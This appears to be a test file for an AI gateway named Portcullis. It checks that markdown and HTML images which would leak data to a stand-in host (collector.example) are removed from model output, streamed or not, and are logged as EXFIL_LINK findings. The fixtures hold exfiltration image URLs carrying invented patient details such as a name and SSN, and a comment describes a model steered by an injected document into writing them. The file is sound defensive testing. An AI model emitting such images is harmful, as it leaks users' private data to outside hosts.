import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { injectionSchema } from '../../src/config/injection-schema.ts';
import { ledgerSchema } from '../../src/config/ledger-schema.ts';
import { openLedger, type Ledger } from '../../src/ledger/index.ts';
import { decodeRecord } from '../../src/ledger/record.ts';
import { startHarness, type Harness } from '../helpers/harness.ts';

// Images in model output that would carry data out (injection.links) through the real gateway
// and SDKs: removed before the agent sees them, in JSON and in streams the stand-in sends word
// by word (so an image arrives split across events), and reported as EXFIL_LINK findings. The
// stand-in says what `[[standin:say ...]]` tells it to, which is how "the model" comes to
// write an exfiltrating image, as a model steered by an injected document would.

const EXFIL = '![status](https://collector.example/pixel.png?d=Maria%20Gonzalez%20DOB%201961-03-02%20SSN%20219-45-8812)';
const REFERENCE = 'See the chart ![chart][c] below.\n\n[c]: https://collector.example/c.png?r=patient-4471-metformin';
const NOTICE = '[image removed by Portcullis: it would have sent data to collector.example]';
const said = (text: string) => `[[standin:say ${text}]]`;
const LEAKS = ['pixel.png', 'Maria%20', '?d=', 'c.png?r'];

describe('images that would carry data out of model output', () => {
  let h: Harness;
  let ledger: Ledger;
  const dir = mkdtempSync(join(tmpdir(), 'portcullis-links-'));
  before(async () => {
    ledger = await openLedger(ledgerSchema.parse({ path: join(dir, 'ledger.sqlite'), keyDir: join(dir, 'keys') }));
    h = await startHarness({
      ledger,
      configure(config) {
        config.injection = injectionSchema.parse({ links: { allowedHosts: ['*.hospital.example'] } });
      },
    });
  });
  after(async () => {
    await h.close();
    await ledger.close();
    rmSync(dir, { recursive: true, force: true });
  });

  test('Chat Completions, JSON: the image is replaced by a notice and recorded as EXFIL_LINK', async () => {
    const { data, response } = await h.openai().chat.completions
      .create({ model: 'standin-gpt', messages: [{ role: 'user', content: said(`Summary ready. ${EXFIL} Anything else?`) }] })
      .withResponse();
    assert.equal(data.choices[0]?.message.content, `Summary ready. ${NOTICE} Anything else?`);
    const record = await h.recordOf(response);
    assert.deepEqual(record.response?.findings?.map((f) => [f.type, f.detector]), [['EXFIL_LINK', 'injection']]);
    // The ledger keeps that it happened, by type, and nothing of the URL or its data.
    await ledger.writer.flush();
    const { size } = await ledger.store.head();
    const stored = (await ledger.store.read(0, size)).map((r) => decodeRecord(r.bytes)).find((r) => r['id'] === record.requestId);
    assert.deepEqual(stored?.['responseFindings'], { EXFIL_LINK: 1 });
    const bytes = (await ledger.store.read(0, size)).map((r) => r.bytes.toString()).join('\n');
    assert.ok(!bytes.includes('collector.example') && !bytes.includes('Gonzalez'));
  });

  test('Chat Completions, streamed word by word: no event carries a piece of the image', async () => {
    const { data: stream, response } = await h.openai().chat.completions.create({
      model: 'standin-gpt', stream: true, messages: [{ role: 'user', content: said(`Done. ${EXFIL} and a note. ${REFERENCE}`) }],
    }).withResponse();
    const deltas: string[] = [];
    for await (const chunk of stream) deltas.push(chunk.choices[0]?.delta.content ?? '');
    assert.equal(deltas.join(''), `Done. ${NOTICE} and a note. See the chart ![chart][c] below.\n\n${NOTICE}`);
    for (const delta of deltas) for (const leak of LEAKS) assert.ok(!delta.includes(leak), `${leak} in ${JSON.stringify(delta)}`);
    assert.ok(deltas.filter((d) => d !== '').length > 3, 'the text around the image still streamed in pieces');
    const record = await h.recordOf(response);
    assert.deepEqual(record.response?.findings?.map((f) => f.type), ['EXFIL_LINK', 'EXFIL_LINK']);
  });

  test('Responses and Anthropic Messages, streamed', async () => {
    const stream = h.openai().responses.stream({ model: 'standin-gpt', input: said(`Done. ${EXFIL}`) });
    let text = '';
    for await (const event of stream) if (event.type === 'response.output_text.delta') text += event.delta;
    assert.equal(text, `Done. ${NOTICE}`);
    assert.equal((await stream.finalResponse()).output_text, `Done. ${NOTICE}`);
    const final = await h.anthropic().messages.stream({
      model: 'standin-claude', max_tokens: 256, messages: [{ role: 'user', content: said(`<img alt="" src="https://collector.example/t.gif?u=4471"> Done.`) }],
    }).finalMessage();
    assert.equal(final.content[0]?.type === 'text' ? final.content[0].text : '', `${NOTICE} Done.`);
  });

  test('images from allowed hosts, static images and plain links reach the agent as the model wrote them', async () => {
    const kept = [
      '![scan](https://imaging.hospital.example/view.png?study=88213)',
      '![logo](https://cdn.example.org/brand/logo.png)',
      '[the form](https://collector.example/form?id=4471)',
    ].join(' ');
    const completion = await h.openai().chat.completions.create({ model: 'standin-gpt', messages: [{ role: 'user', content: said(kept) }] });
    assert.equal(completion.choices[0]?.message.content, kept);
  });

  test('with action flag the image passes and is still recorded; with off nothing is looked at', async () => {
    for (const action of ['flag', 'off'] as const) {
      await h.close();
      h = await startHarness({ configure(config) { config.injection = injectionSchema.parse({ links: { action } }); } });
      const { data, response } = await h.openai().chat.completions
        .create({ model: 'standin-gpt', messages: [{ role: 'user', content: said(EXFIL) }] })
        .withResponse();
      assert.equal(data.choices[0]?.message.content, EXFIL);
      const record = await h.recordOf(response);
      const types = record.response?.findings?.map((f) => f.type) ?? [];
      assert.deepEqual(types, action === 'flag' ? ['EXFIL_LINK'] : []);
    }
  });
});
